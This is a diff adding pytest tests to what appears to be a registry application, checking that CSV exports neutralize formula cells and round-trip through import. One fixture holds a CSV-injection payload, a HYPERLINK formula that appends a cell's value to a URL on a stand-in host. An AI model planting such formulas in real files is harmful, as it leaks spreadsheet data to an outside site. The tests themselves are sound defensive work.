@@ -2,12 +2,18 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
+from pathlib import Path
+
 import pytest
 from sqlalchemy import select
 
-from app import audit, demo
+from app import audit, csv_text, demo
 from app.audit import AuditQuery
 from app.audit_sequencer import sequence_all
+from app.csv_text import FORMULA_START
 from app.db.models import Asset, Person, Tag
 from app.errors import PermissionDenied, ValidationError
 from app.rbac import Role, system_principal
@@ -226,3 +232,46 @@ def test_export_round_trips_through_import(services: Services) -> None:
         assert result.ok, (kind, result.errors[:3])
         assert result.created == 0 and result.tags_bound == 0 and result.updated == len(text.splitlines()) - 1
         assert services.registers.export(SYSTEM, kind) == text
+
+
+def test_export_neutralizes_formula_cells_and_the_file_imports_back_unchanged(services: Services) -> None:
+    cells = ['=HYPERLINK("http://x.example/?"&A1,"点我")', "+8613800138000", "-2+3", "@SUM(A1:A9)"]
+    out = io.StringIO()
+    csv.writer(out).writerows(
+        [["id_number", "name", "sex", "department", "post"]]
+        + [[ID[i], cell, "M", cells[(i + 1) % 4], "柜员"] for i, cell in enumerate(cells)]
+    )
+    text = out.getvalue()  # as a user's file would hold them
+    assert services.registers.import_csv(ROOT, "person", text, reason="t").ok
+    exported = services.registers.export(ROOT, "person")
+    for line in exported.splitlines()[1:]:
+        for cell in next(csv.reader([line])):
+            assert not cell.startswith(FORMULA_START), cell  # a spreadsheet shows it as text
+    assert "'=HYPERLINK(" in exported and ",'@SUM(A1:A9)," in exported
+    with services.db.read() as s:
+        before = sorted(s.execute(select(Person.name, Person.department)).all())
+    assert sorted(before) == sorted((c, cells[(i + 1) % 4]) for i, c in enumerate(cells))
+    again = services.registers.import_csv(ROOT, "person", exported, reason="round trip")
+    assert again.ok and again.updated == 4
+    with services.db.read() as s:
+        assert sorted(s.execute(select(Person.name, Person.department)).all()) == before
+    assert services.registers.export(ROOT, "person") == exported
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralized_and_read_back(start: str) -> None:
+    value = f"{start}1+1"
+    assert csv_text.safe_cell(value) == "'" + value
+    assert csv_text.read_cell(csv_text.safe_cell(value)) == value
+    assert csv_text.safe_cell("张三") == "张三" and csv_text.read_cell("'张三") == "'张三"
+
+
+def test_every_csv_the_suite_writes_goes_through_the_neutralizing_writer() -> None:
+    root = Path(__file__).resolve().parents[2]
+    writers = [
+        str(path.relative_to(root))
+        for folder in ("app", "widgets", "hardware", "imaging")
+        for path in (root / folder).rglob("*.py")
+        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
+    ]
+    assert writers == ["app/csv_text.py"]
